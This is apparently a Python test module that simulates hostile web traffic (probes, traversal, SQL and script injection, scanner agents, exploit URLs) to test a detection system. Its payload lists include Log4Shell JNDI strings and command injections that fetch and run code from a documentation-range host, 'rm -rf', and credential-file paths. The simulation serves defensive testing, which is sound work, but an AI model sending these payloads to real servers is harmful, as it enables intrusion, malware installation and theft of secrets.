"""Abuse of the web: probing, hostile payloads, scanners, exploits (II.1, II.2)."""

from collections.abc import Callable, Sequence
from random import Random
from urllib.parse import quote

from schout.core.model.event import HttpRequest
from schout.core.model.ids import ClauseId
from schout.core.model.moment import MINUTE_US, SECOND_US
from schout.core.model.value import Value
from schout.testing.simulate_cast import LOUD, SLOW, VARIANTS, Deed, Kind, paced, pick
from schout.testing.simulate_world import (
    BROWSERS,
    World,
    hostile,
    hostile_prefix,
    hostile_spread,
    request,
)

ACCESS_BREACH, RESEARCH = ClauseId("II.1"), ClauseId("II.2")
_MISSING = (
    *("wp-login.php", "wp-admin/", "administrator/", "phpmyadmin/index.php", "old/", "test/"),
    *("backup/", "cgi-bin/test-cgi", "manager/html", "solr/admin/", "admin.php", "console/"),
    *("vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "xmlrpc.php", "HNAP1/", "owa/"),
    *("boaform/admin/formLogin", "actuator/health", "jenkins/login", "geoserver/web/"),
)
_SENSITIVE = (
    *("/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.ssh/id_rsa", "/.htpasswd"),
    *("/wp-config.php.bak", "/config.php~", "/database.sql", "/dump.sql.gz", "/backup.zip"),
    *("/.env.production", "/.svn/entries", "/.DS_Store", "/server-status", "/phpinfo.php"),
    *("/odoo.conf", "/etc/odoo/odoo.conf", "/.vscode/sftp.json", "/docker-compose.yml"),
)
_TRAVERSALS = (
    "/download?file=../../../../etc/passwd",
    "/web/content/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%252f..%252f..%252fetc/shadow",
    "/index?page=....//....//....//etc/passwd",
    "/get?path=%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    "/view?doc=php://filter/convert.base64-encode/resource=index",
)
_INJECTIONS = (
    "/shop?search=1' UNION SELECT login,password FROM res_users-- -",
    "/shop?category=3 AND 1=1",
    "/shop?order=name' OR '1'='1",
    "/shop?search=1;WAITFOR DELAY '0:0:5'--",
    "/shop?search=1' AND SLEEP(5)#",
    "/blog?tag=<script>alert(document.cookie)</script>",
    '/event?name="><img src=x onerror=alert(1)>',
    "/contactus?name=${jndi:ldap://203.0.113.66/a}",
    "/jobs?q=;cat /etc/passwd",
    "/ping?host=127.0.0.1|id",
    "/shop?search={{7*7}}{{config.items()}}",
)
_EXPLOITS = (
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/?x=${jndi:ldap://203.0.113.66:1389/Exploit}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?cmd=id",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget http://203.0.113.66/x)",
    "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.66/jaws;sh+/tmp/jaws",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.66/m",
    "/solr/admin/cores?action=CREATE&wt=json&name=${jndi:dns://203.0.113.66}",
    "/actuator/gateway/routes/x?spel=T(java.lang.Runtime).getRuntime().exec('id')",
    "/api/v1/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
)
_SCANNERS = (
    "sqlmap/1.9.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)",
)

_Target = Callable[[Random, int], tuple[str, int]]
"""Gives the target of a request and the status it is answered with."""


def _missing(draw: Random, number: int) -> tuple[str, int]:
    return f"/{_MISSING[number % len(_MISSING)]}{_deep(draw, number)}", 404


def _deep(draw: Random, number: int) -> str:
    return "" if number < len(_MISSING) else f"{draw.getrandbits(20):x}.php"


def _sensitive(draw: Random, number: int) -> tuple[str, int]:
    folder = "" if number < len(_SENSITIVE) else f"/{draw.choice(('app', 'old', 'www', 'api'))}"
    return folder + _SENSITIVE[number % len(_SENSITIVE)], 403 if number % 5 == 0 else 404


def _of(payloads: Sequence[str], status: int) -> _Target:
    def make(draw: Random, number: int) -> tuple[str, int]:
        text = payloads[(number + draw.randrange(2)) % len(payloads)]
        path, mark, query = text.partition("?")
        return path + mark + quote(query, safe="=&%.+/:"), status

    return make


class _Style(Value, frozen=True, kw_only=True):
    """How an act of one kind goes: by variant the gap, the number of requests, the addresses."""

    target: _Target
    loud: tuple[int, int]
    slow: tuple[int, int]
    spread: tuple[int, int]
    addresses: int = 40
    near: bool = False
    agents: tuple[str, ...] = BROWSERS[:4]

    def plan(self, world: World, draw: Random, start_us: int, variant: str) -> Deed:
        """Plan one act."""
        gap_us, count = {LOUD: self.loud, SLOW: self.slow}.get(variant, self.spread)
        one = variant in {LOUD, SLOW}
        if one:
            sources: tuple[str, ...] = (hostile(draw),)
        elif self.near:
            sources = hostile_prefix(draw, self.addresses)
        else:
            sources = hostile_spread(draw, self.addresses)
        tenant, agent = world.some(draw), draw.choice(self.agents)

        def make(at_us: int, number: int) -> HttpRequest:
            target, status = self.target(draw, number)
            source = pick(sources, number)
            return request(at_us, source, tenant, "GET", target, status, 1200, agent)

        steps = paced(draw, start_us, gap_us, count, make)
        return Deed(sources=sources, targets=(tenant.host,), tenant=tenant.id, steps=steps)


def _kind(name: str, clauses: tuple[ClauseId, ...], longest_us: int, style: _Style) -> Kind:
    return Kind(
        name=name, clauses=clauses, variants=VARIANTS, longest_us=longest_us, plan=style.plan
    )


_S = SECOND_US
PROBES = (
    _kind("missing_pages", (RESEARCH, ACCESS_BREACH), 180 * MINUTE_US, _Style(
        target=_missing, loud=(_S // 5, 200), slow=(25 * _S, 300), spread=(2 * _S, 400), near=True,
    )),
    _kind("sensitive_files", (RESEARCH, ACCESS_BREACH), 120 * MINUTE_US, _Style(
        target=_sensitive, loud=(_S // 3, 60), slow=(60 * _S, 60), spread=(5 * _S, 120),
    )),
    _kind("traversal", (RESEARCH, ACCESS_BREACH), 120 * MINUTE_US, _Style(
        target=_of(_TRAVERSALS, 400), loud=(_S, 40), slow=(90 * _S, 40), spread=(20 * _S, 60),
        addresses=20,
    )),
    _kind("injection", (RESEARCH, ACCESS_BREACH), 120 * MINUTE_US, _Style(
        target=_of(_INJECTIONS, 200), loud=(_S, 80), slow=(90 * _S, 50), spread=(20 * _S, 80),
        addresses=20,
    )),
    _kind("scanner_agent", (RESEARCH, ACCESS_BREACH), 120 * MINUTE_US, _Style(
        target=_missing, loud=(_S // 8, 300), slow=(40 * _S, 80), spread=(10 * _S, 120),
        addresses=30, agents=_SCANNERS,
    )),
    _kind("scanner_as_browser", (RESEARCH, ACCESS_BREACH), 120 * MINUTE_US, _Style(
        target=_of((*_INJECTIONS, *_SENSITIVE, *_TRAVERSALS), 404), loud=(_S // 8, 300),
        slow=(30 * _S, 120), spread=(8 * _S, 150), addresses=30,
    )),
    _kind("exploits", (ACCESS_BREACH, RESEARCH), 120 * MINUTE_US, _Style(
        target=_of(_EXPLOITS, 404), loud=(_S, 40), slow=(120 * _S, 30), spread=(30 * _S, 60),
        addresses=30,
    )),
)  # fmt: skip
